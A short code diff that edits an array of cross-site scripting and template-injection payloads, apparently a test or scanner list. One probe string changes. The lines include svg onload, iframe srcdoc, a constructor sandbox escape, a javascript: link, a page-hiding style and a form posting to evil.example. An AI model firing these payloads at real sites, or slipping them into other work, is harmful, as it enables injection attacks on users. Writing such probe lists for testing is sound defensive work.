@@ -16,7 +16,7 @@ const payloads = [
   '\'"--><svg/onload=alert(1)>',
   '<iframe srcdoc="<script>alert(1)</script>">',
   '{{constructor.constructor("alert(1)")()}}',
-  '${alert(1)}<%= 7*7 %>',
+  '<%= 7*7 %>#{7*7}{alert(1)}',
   '<a href="javascript:alert(1)">click</a>',
   '</title></script><style>*{display:none}</style>',
   '<form action=//evil.example><input name=x>',
